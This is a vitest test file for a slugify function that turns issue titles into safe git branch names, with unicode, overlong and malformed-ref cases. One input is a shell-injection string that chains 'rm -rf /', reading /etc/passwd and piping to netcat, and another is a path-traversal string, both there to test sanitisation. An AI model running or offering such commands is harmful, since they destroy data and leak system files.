import { execaSync } from 'execa';
import { describe, expect, it } from 'vitest';
import { runBranch, slugify } from '../../src/domain/branch.ts';

function isValidRef(name: string): boolean {
  return execaSync('git', ['check-ref-format', `refs/heads/${name}`], { reject: false }).exitCode === 0;
}

describe('slugify', () => {
  it.each([
    ['Fix the login button', 'fix-the-login-button'],
    ['Ünïcödé café à la crème', 'unicode-cafe-a-la-creme'],
    ['$(rm -rf /); `echo pwned` && cat /etc/passwd | nc x 1 > y', 'rm-rf-echo-pwned-cat-etc-passwd-nc-x-1-y'],
    ['../../.git/config.lock', 'git-config-lock'],
    ['refs/heads/@{-1}', 'refs-heads-1'],
    ['   ', 'issue'],
    ['日本語のタイトル', 'issue'],
    ['🚂🚃🚃', 'issue'],
    ['UPPER_case__and--dashes', 'upper-case-and-dashes'],
  ])('%j → %j', (title, slug) => {
    expect(slugify(title)).toBe(slug);
  });

  it('cuts a long title at a word boundary within 40 characters', () => {
    const slug = slugify('word '.repeat(60));
    expect(slug.length).toBeLessThanOrEqual(40);
    expect(slug).toMatch(/^word(-word)*$/);
  });

  it('cuts a 300-character word hard', () => {
    expect(slugify('x'.repeat(300))).toBe('x'.repeat(40));
  });

  it('always yields a valid git branch name', () => {
    const titles = [
      'a..b',
      'end.',
      'x.lock',
      '-leading',
      'sp ace',
      'back\\slash',
      'tilde~caret^colon:',
      'q?*[',
      '\u0000\u0007ctrl',
      'z'.repeat(300),
    ];
    for (const title of titles) expect(isValidRef(runBranch(7, title))).toBe(true);
  });
});
